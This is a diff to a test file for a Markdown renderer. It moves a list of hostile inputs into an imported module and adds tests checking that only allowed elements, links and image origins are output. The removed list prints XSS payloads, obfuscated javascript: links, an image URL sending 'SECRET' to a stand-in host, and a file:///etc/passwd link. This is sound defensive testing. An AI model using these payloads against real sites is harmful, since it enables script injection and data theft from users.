@@ -6,11 +6,17 @@ import { afterEach, describe, expect, test } from 'vitest'
 import { Markdown } from './index.ts'
 import { faults } from './testing/allowlist.ts'
 import { markdownText } from './testing/arbitrary.ts'
+import { hostile } from './testing/hostile.ts'
 
 afterEach(cleanup)
 
 const origins = ['https://docs.example.com']
 const labels = { table: 'Table', taskDone: 'Done', taskOpen: 'Open', footnote: 'Footnote' }
+
+/** Milliseconds that many drawings take at most on a busy machine. */
+const timeout = 60_000
+
+const attacks = Object.values(hostile).flat()
 
 const draw = (text: string, streaming = false) => {
   cleanup()
@@ -27,49 +33,23 @@ const draw = (text: string, streaming = false) => {
 
 const addresses = (text: string) => [...draw(text).querySelectorAll('a')].map(link => link.getAttribute('href'))
 
-/** Attempts to run something, to send something out, or to show a false address. */
-const hostile = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<svg onload=alert(1)>',
-  '<iframe src="https://evil.test">',
-  '<style>@import url(https://evil.test)</style>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<base href="https://evil.test/">',
-  '![x](https://evil.test/?d=SECRET)',
-  '![x][evil]\n\n[evil]: https://evil.test/x',
-  '[![x](https://evil.test/x)](https://evil.test/y)',
-  '![x](//evil.test/x)',
-  '![x](https://docs.example.com@evil.test/x)',
-  '![x](https://docs.example.com.evil.test/x)',
-  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
-  '[x](javascript:alert(1))',
-  '[x](<java\tscript:alert(1)>)',
-  '[x](java&#10;script:alert(1))',
-  '[x](&#x6A;avascript:alert(1))',
-  '[x](javascript&colon;alert(1))',
-  '[x](\\\\evil.test)',
-  '[x](\u0001javascript:alert(1))',
-  '[x](data:text/html,x)',
-  '[x](vbscript:x)',
-  '[x](blob:https://evil.test/1)',
-  '[x](file:///etc/passwd)',
-  '<javascript:alert(1)>',
-  '[x]: javascript:alert(1)\n[x]',
-  '[x](https://a.test "\\" onmouseover=alert(1) \\"")',
-  '`` <img src=x onerror=alert(1)> ``',
-  '```"><script>\nalert(1)\n```',
-  '| <b onclick=x> | ![x](https://evil.test) |\n|---|---|\n| <td> | [x](javascript:1) |'
-]
-
 describe('nothing but the allowed elements, attributes and addresses comes out', () => {
-  test.each(hostile)('of %j', text => {
-    expect(faults(draw(text), origins)).toEqual([])
-    expect(faults(draw(text, true), origins)).toEqual([])
+  describe.each(Object.entries(hostile))('of %s', (_name, texts) => {
+    test.each(texts)('%j', text => {
+      expect(faults(draw(text), origins)).toEqual([])
+      expect(faults(draw(text, true), origins)).toEqual([])
+    })
   })
 
-  test('of any mixture of attacks and Markdown, at any point of the stream', () => {
-    const mixture = fc.array(fc.oneof(fc.constantFrom(...hostile), markdownText), { maxLength: 6 })
+  test('of an attack that has arrived up to any character', { timeout }, () => {
+    const marked = Object.entries(hostile).flatMap(([name, texts]) => (name.startsWith('HTML') ? [] : texts))
+    for (const text of marked) {
+      for (let end = 1; end < text.length; end++) expect(faults(draw(text.slice(0, end), true), origins)).toEqual([])
+    }
+  })
+
+  test('of any mixture of attacks and Markdown, at any point of the stream', { timeout }, () => {
+    const mixture = fc.array(fc.oneof(fc.constantFrom(...attacks), markdownText), { maxLength: 6 })
     fc.assert(
       fc.property(mixture, fc.nat({ max: 300 }), (parts, end) => {
         const text = parts.join('')
@@ -80,7 +60,7 @@ describe('nothing but the allowed elements, attributes and addresses comes out',
     )
   })
 
-  test('of any string', () => {
+  test('of any string', { timeout }, () => {
     fc.assert(
       fc.property(fc.string({ unit: 'binary', maxLength: 60 }), text => {
         expect(faults(draw(text), origins)).toEqual([])
@@ -122,6 +102,17 @@ describe('nothing but the allowed elements, attributes and addresses comes out',
   })
 })
 
+describe('HTML', () => {
+  test.each(Object.entries(hostile).filter(([name]) => name.startsWith('HTML')))(
+    'is shown as its text: %s',
+    (_name, texts) => {
+      const plain = (text: string) => text.replace(/[\s\0\ufffd]+/g, '')
+      for (const text of texts.filter(text => !/[&[*]/.test(text)))
+        expect(plain(draw(text).textContent)).toBe(plain(text))
+    }
+  )
+})
+
 describe('a link', () => {
   test.each([
     'javascript:alert(1)',
@@ -132,6 +123,10 @@ describe('a link', () => {
   ])('to %j is only its text', address => {
     expect(addresses(`[x](${address})`)).toEqual([])
     expect(draw(`[x](${address})`).textContent).toBe('x')
+  })
+
+  test.each(hostile['links that run something or lead where no page is'] ?? [])('is none at all in %j', text => {
+    expect(addresses(text).filter(address => address !== 'https://a.test/')).toEqual([])
   })
 
   test('to a page of the documentation is resolved against it', () => {
@@ -166,6 +161,14 @@ describe('a link', () => {
 })
 
 describe('an image', () => {
+  test.each(Object.entries(hostile).flatMap(([name, texts]) => (name.startsWith('images') ? texts : [])))(
+    'is never loaded from elsewhere: %j',
+    text => {
+      const loaded = [...draw(text).querySelectorAll('img')].map(image => new URL(image.src).origin)
+      expect(loaded.filter(origin => !origins.includes(origin))).toEqual([])
+    }
+  )
+
   test('of an allowed origin is loaded late and without a referrer', () => {
     const image = draw('![A *plan*](/images/a.png "T")').querySelector('img')
     expect(image?.outerHTML).toBe(
